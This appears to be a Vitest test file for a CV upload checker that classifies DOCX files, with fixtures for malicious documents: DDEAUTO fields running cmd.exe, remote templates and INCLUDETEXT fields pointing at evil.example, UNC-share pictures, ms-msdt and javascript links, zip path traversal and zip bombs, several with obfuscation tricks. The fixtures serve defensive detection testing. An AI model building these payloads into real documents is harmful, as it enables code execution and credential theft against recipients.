import { describe, expect, test } from 'vitest';
import { bytesOf, compound, docx, docxParts, relation, zip } from '#tests/support/server/cv-files.ts';
import { DOCX, verdict } from '#tests/support/server/cv-verdict.ts';

describe('DOCX', () => {
  const part = (name: string, content: Uint8Array | string = 'x') => ({ name, content });
  /** With its code in two runs, as Word splits them. */
  const field = (code: string) => {
    const char = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
    const half = code.startsWith('<') ? 0 : 2;
    const runs = [code.slice(0, half), code.slice(half)].map((text) => `<w:instrText>${text}</w:instrText>`);
    const content = `${char('begin')}${runs.join('')}${char('separate')}<w:t>DDE x</w:t>${char('end')}`;
    return part('word/footnotes.xml', content);
  };
  test.each([
    ['macros', docx([part('word/vbaProject.bin', 'x')])],
    ['macros in another folder', docx([part('custom/VBAPROJECT.bin')])],
    [
      'the type of a document with macros',
      docx([], { main: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    ],
    [
      'a type of macros alone',
      docx([], { more: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' }),
    ],
    [
      'a disguised type of macros',
      docx([], { more: '<Default Extension="x" ContentType="application/vnd.ms-office.vba&#80;roject"/>' }),
    ],
  ])('with %s is one with macros', async (_, file) => {
    expect(await verdict(file, 'cv.docx')).toBe('fileWithMacros');
  });
  test.each([
    ['a way out of the archive', docx([part('../../etc/cron.d/x')])],
    ['a way out for Windows', docx([part('word\\..\\..\\x')])],
    ['an absolute name', docx([part('/etc/passwd')])],
    ['a name on a drive', docx([part('C:/autoexec.bat')])],
    ['one name twice', docx([part('word/DOCUMENT.xml')])],
    ['two names for one part', docx([{ ...part('word/a.xml'), says: { localName: 'word/b.xml' } }])],
    ['a program', docx([part('word/media/image1.png', bytesOf('MZ\x90\0\x03'))])],
    ['a packed object', docx([part('word/embeddings/oleObject1.bin', compound([]))])],
    ['a control', docx([part('word/activeX/activeX1.xml')])],
    [
      'an archive in an archive in it',
      docx([part('word/embeddings/a.xlsx', zip([part('b.zip', zip([part('c')]))]))]),
    ],
    [
      'a field that starts a program',
      docx([
        part(
          'word/header1.xml',
          '<w:instrText> DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe </w:instrText>',
        ),
      ]),
    ],
    ['a template from elsewhere', docx([relation('attachedTemplate', 'https://evil.example/t.dotm')])],
    [
      'a template under a disguised address',
      docx([relation('attachedTemplate', '&#104;ttps://evil.example/t')]),
    ],
    ['a template on a share', docx([relation('attachedTemplate', 'file:///\\\\evil.example\\t.dotm')])],
    [
      'a template whose kind is disguised',
      docx([relation('attached&#84;emplate', 'https://evil.example/t')]),
    ],
    [
      'a template behind a bracket in another attribute',
      docx([relation('attachedTemplate" Id="a>b', 'https://evil.example/t')]),
    ],
    [
      'a template behind an attribute of another kind',
      docx([
        {
          ...relation('', ''),
          content:
            '<Relationship x:Type="x" x:Target="Normal.dotm" Type="a/attachedTemplate" Target="https://evil.example/t" TargetMode="External"/>',
        },
      ]),
    ],
    [
      'a template on a share, its slashes disguised',
      docx([relation('attachedTemplate', 'file:///%5C%5Cevil.example%5Ct.dotm')]),
    ],
    [
      'a field that starts a program under another prefix',
      docx([part('word/header1.xml', '<x:instrText> DDEAUTO c:\\cmd.exe </x:instrText>')]),
    ],
    [
      'a disguised field that starts a program',
      docx([part('word/header1.xml', '<w:instrText> D&#68;&#x45;AUTO c:\\cmd.exe </w:instrText>')]),
    ],
    [
      'a field that starts a program among raw text',
      docx([part('word/header1.xml', '<w:instrText><![CDATA[DDEAUTO c:\\cmd.exe ]]></w:instrText>')]),
    ],
    ['a part in RTF', docx([part('word/afchunk.dat', '{\\rtf1{\\object}}')])],
    [
      'a control in another folder',
      docx([part('word/x/control.xml')], {
        more: '<Override PartName="/word/x/control.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
      }),
    ],
    [
      'a part of another format, which Word takes into the text',
      docx([
        {
          ...relation('', ''),
          content: '<Relationship Type="http://x/relationships/aFChunk" Target="/word/afchunk.mht" />',
        },
      ]),
    ],
    ['a packed file', docx([part('word/a.xml', '<o:OLEObject Type="Embed" ProgID="Package"/>')])],
    ['a place where another format is taken in', docx([part('word/a.xml', '<w:altChunk r:id="rId1"/>')])],
    ['a place of a control', docx([part('word/a.xml', '<w:control r:id="rId1"/>')])],
    ['a relation to macros under another name', docx([relation('vbaProject', 'a.bin')])],
    ['addresses from elsewhere', docx([relation('mailMergeSource', 'https://evil.example/a.mdb')])],
    ['a link to a share', docx([relation('hyperlink', 'file://office/shared/cv.docx')])],
    ['a link to a script', docx([relation('hyperlink', 'javascript:alert(1)')])],
    ['a part of another machine', docx([relation('header', 'https://evil.example/a.xml')])],
    ['settings of another machine', docx([relation('frame', 'https://evil.example/a.xml')])],
    [
      'a part elsewhere that is said to be within',
      docx([
        { ...relation('', ''), content: '<Relationship Type="a/header" Target="https://evil.example/a"/>' },
      ]),
    ],
    ['a field that takes a document into the text', docx([field('INCLUDETEXT "https://evil.example/a"')])],
    [
      'a field that is linked to a document',
      docx([field('LINK Word.Document.8 "https://evil.example/a" \\a')]),
    ],
    ['a field that asks a database', docx([field('DATABASE \\d "\\\\evil\\a"')])],
    ['a field that links to a script', docx([field('HYPERLINK "javascript:alert(1)"')])],
    ['a field with a picture on a share', docx([field('INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png"')])],
    ['a field whose name is another field', docx([field(`${field('QUOTE 68 68 69').content} c:\\cmd.exe`)])],
    ['a field whose address is another field', docx([field(`HYPERLINK "${field('QUOTE 1').content}:x"`)])],
    ['a field whose words are text', docx([field('</w:instrText><w:t>DDE</w:t><w:instrText>AUTO cmd')])],
    ['a field of one element', docx([part('word/a.xml', '<w:fldSimple w:instr=" DDE cmd "/>')])],
    ['a field in what was deleted', docx([part('word/a.xml', '<w:delInstrText>DDE cmd</w:delInstrText>')])],
    ['a page within it', docx([part('word/a.xml', '<wp15:webVideoPr embeddedHtml="x"/>')])],
    [
      'a field behind blanks, in a part of another name',
      docx([part('word/a.bin', `${' '.repeat(2_000)}<a><w:instrText>DDE cmd</w:instrText></a>`)]),
    ],
    ['a link to a program of Windows', docx([relation('hyperlink', 'ms-msdt:/id')])],
    ['a drawing on a share', docx([part('word/a.xml', '<v:imagedata src="\\\\evil.example\\a.png"/>')])],
    [
      'a base that is a script',
      docx([part('docProps/app.xml', '<HyperlinkBase>javascript:x</HyperlinkBase>')]),
    ],
    [
      'letters whose addresses come from a server',
      docx([part('word/settings.xml', '<w:connectString w:val="DRIVER=SQL Server;SERVER=evil.example"/>')]),
    ],
    ['a picture on a share', docx([relation('image', 'file:///\\\\evil.example\\a.png')])],
    ['a picture on a share by its slashes', docx([relation('image', '//evil.example/a.png')])],
    ['a picture on a share of a named machine', docx([relation('image', 'file://evil.example/a.png')])],
    ['an object from elsewhere', docx([relation('oleObject', 'mhtml:http://evil.example/x!x-usc:')])],
    ['something between its parts', zip(docxParts(), { between: 'MZ'.repeat(40) })],
    ['something behind it', bytesOf(docx(), '<script>alert(1)</script>')],
    ['a comment', zip(docxParts(), { comment: 'MZ' })],
    ['a thousand parts and one', docx(Array.from({ length: 998 }, (_, place) => part(`x/${place}`)))],
  ])('with %s is harmful', async (_, file) => {
    expect(await verdict(file, 'cv.docx')).toBe('harmfulFile');
  });
  test.each([
    ['a table behind a chart', docx([part('word/embeddings/a.xlsx', zip([part('xl/workbook.xml')]))])],
    [
      'fields of its own',
      docx([part('word/footer1.xml', '<w:instrText> PAGE </w:instrText><w:fldSimple w:instr=" TOC "/>')]),
    ],
    ['a table', docx([part('word/a.xml', '<o:OLEObject Type="Embed" ProgID="Excel.Sheet.12"/>')])],
    ['a link', docx([relation('hyperlink', 'https://example.com')])],
    ['a link to its own drive', docx([relation('hyperlink', 'file:///C:/Users/Somying/cv.docx')])],
    ['a link to a mailbox', docx([relation('hyperlink', 'mailto:somying@example.com')])],
    [
      'a link to a place within it',
      docx([field('HYPERLINK \\\\l "_Toc1"'), relation('hyperlink', '#_Toc1')]),
    ],
    [
      'a picture that was copied from the web',
      docx([field('INCLUDEPICTURE "https://a.example/b.png" \\* MERGEFORMATINET')]),
    ],
    ['a field within a field', docx([field(`IF ${field('PAGE').content} = 1 "a" "b"`)])],
    [
      'a text of programs',
      docx([part('word/a.xml', '<w:t>DDEAUTO cmd</w:t><w:instrText> PAGE </w:instrText>')]),
    ],
    ['a picture from the web', docx([relation('image', 'https://example.com/100%.png')])],
    ['a picture on its own drive', docx([relation('image', 'file:///C:\\Users\\Somying\\a.png')])],
    ['addresses on its own drive', docx([relation('mailMergeSource', 'file:///C:/Users/a.xlsx')])],
    ['its own template', docx([relation('attachedTemplate', 'file:///C:/Users/Somying/Normal.dotm')])],
    ['a template by its name alone', docx([relation('attachedTemplate', 'Normal.dotm')])],
    [
      'a template on a Mac',
      docx([relation('attachedTemplate', 'file://localhost/Users/somying/Normal.dotm')]),
    ],
    ['a larger picture', docx([part('word/media/image1.emf', Buffer.alloc(2 * 1024 * 1024, 'picture'))])],
  ])('with %s is taken', async (_, file) => {
    expect(await verdict(file)).toBe(DOCX);
  });
  test('with a part of another name that is read as XML, in letters of its own, is broken', async () => {
    const xml = '<?xml version="1.0" encoding="windows-1252"?><a><w:instrText>DDE cmd</w:instrText></a>';
    const listed = (type: string) => ({ more: `<Default Extension="bin" ContentType="a/${type}"/>` });
    expect(await verdict(docx([part('word/a.bin', xml)], listed('footer+xml')))).toBe('brokenFile');
    expect(await verdict(docx([part('word/a.bin', xml)], listed('picture')))).toBe(DOCX);
  });
  test('that lacks its text is no document', async () => {
    expect(await verdict(zip(docxParts().filter(({ name }) => name !== 'word/document.xml')))).toBe(
      'wrongFileKind',
    );
  });
  test('with an encrypted part is locked, as is one under a password', async () => {
    expect(await verdict(docx([{ name: 'x', content: 'x', says: { flags: 1 } }]))).toBe('lockedFile');
    expect(await verdict(compound([{ name: 'EncryptedPackage', content: Buffer.alloc(4096) }]))).toBe(
      'lockedFile',
    );
  });
  test('a bomb that owns up, and bombs that do not', async () => {
    const zeros = (size: number) => Buffer.alloc(size);
    expect(await verdict(docx([part('word/a.xml', zeros(10_000_000))]))).toBe('harmfulFile');
    const lying = { name: 'word/a.xml', content: zeros(60_000_000), says: { size: 1_000 } };
    expect(await verdict(docx([lying]))).toBe('harmfulFile');
    const inner = zip([part('a', zeros(9_000_000))]);
    expect(await verdict(docx([part('word/embeddings/a.xlsx', inner)]))).toBe('harmfulFile');
    const many = Array.from({ length: 15 }, (_, place) =>
      part(`word/embeddings/${place}.xlsx`, zip([part('a', zeros(7_000_000))])),
    );
    expect(await verdict(docx(many))).toBe('harmfulFile');
  });
  test('parts that overlap, by which a small bomb unfolds to much', async () => {
    const file = Buffer.from(docx([part('a'), part('b')]));
    const last = file.lastIndexOf('PK\x01\x02', undefined, 'latin1');
    const before = file.lastIndexOf('PK\x01\x02', last - 1, 'latin1');
    // Of the two, the first is said to reach into the second.
    file.writeUInt32LE(file.readUInt32LE(before + 20) + 8, before + 20);
    expect(await verdict(new Uint8Array(file))).toBe('harmfulFile');
    // Both are said to be one and the same.
    file.copyWithin(last + 42, before + 42, before + 47);
    expect(await verdict(new Uint8Array(file))).toBe('harmfulFile');
  });
  test('with a bit turned in a part is broken', async () => {
    const file = docx([part('word/media/a.bin', Buffer.from('x'.repeat(500)))]);
    const at = Buffer.from(file).indexOf('word/media/a.bin') + 'word/media/a.bin'.length + 2;
    file[at] = (file[at] ?? 0) ^ 0x10;
    expect(await verdict(file)).toBe('brokenFile');
  });
});
